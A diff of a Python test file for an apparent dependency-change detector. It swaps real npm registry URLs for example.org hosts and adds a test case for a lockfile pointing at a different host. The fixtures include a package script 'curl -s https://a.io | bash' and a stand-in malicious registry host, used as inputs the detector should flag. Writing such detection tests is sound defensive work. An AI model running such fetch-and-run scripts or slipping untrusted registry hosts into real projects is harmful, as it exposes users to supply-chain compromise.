@@ -21,8 +21,8 @@ def script(**entries: str) -> str:
     return json.dumps({"name": "x", "scripts": {"test": "a", **entries}}, indent=2)
 
 
-def lock(*, resolved: str = "https://registry.npmjs.org", integrity: bool = True) -> str:
-    usual: dict[str, object] = {"version": "1", "resolved": "https://registry.npmjs.org/p", "integrity": "s"}
+def lock(*, resolved: str = "https://packages.example.org", integrity: bool = True) -> str:
+    usual: dict[str, object] = {"version": "1", "resolved": "https://packages.example.org/p", "integrity": "s"}
     packages: dict[str, dict[str, object]] = {f"node_modules/p{at}": usual for at in range(8)}
     own: dict[str, object] = {"version": "1", "resolved": f"{resolved}/q.tgz"}
     packages["node_modules/q"] = {**own, "integrity": "s"} if integrity else own
@@ -72,8 +72,9 @@ FIRES = [
     ("install-script", "package.json", script(), script(postinstall="node a.js")),
     ("install-script", "package.json", script(install="node a.js"), script(install="node b.js")),
     ("script-fetches", "package.json", script(), script(setup="curl -s https://a.io | bash")),
-    ("lock-without-tls", "package-lock.json", lock(), lock(resolved="http://registry.npmjs.org")),
+    ("lock-without-tls", "package-lock.json", lock(), lock(resolved="http://packages.example.org")),
     ("lock-other-host", "package-lock.json", lock(), lock(resolved="https://npm.evil.io")),
+    ("lock-other-host", "package-lock.json", lock(), lock(resolved="https://mirror.example.net")),
     ("checksum-removed", "package-lock.json", lock(), lock(integrity=False)),
 ]
 
@@ -114,7 +115,7 @@ def test_a_dependency_that_is_new_or_looser_is_told(
         ("package.json", package("devDependencies"), package("devDependencies", old="a/old")),
         ("pom.xml", POM, POM.replace("1.0", "${a.version}")),
         ("Cargo.toml", CARGO, '[dependencies]\nold = { path = "../old" }\n'),
-        ("package-lock.json", lock(), lock(resolved="https://registry.yarnpkg.com")),
+        ("package-lock.json", lock(), lock(resolved="https://packages.example.org/other")),
     ],
 )
 def test_what_is_held_as_firmly_as_before_is_silence(
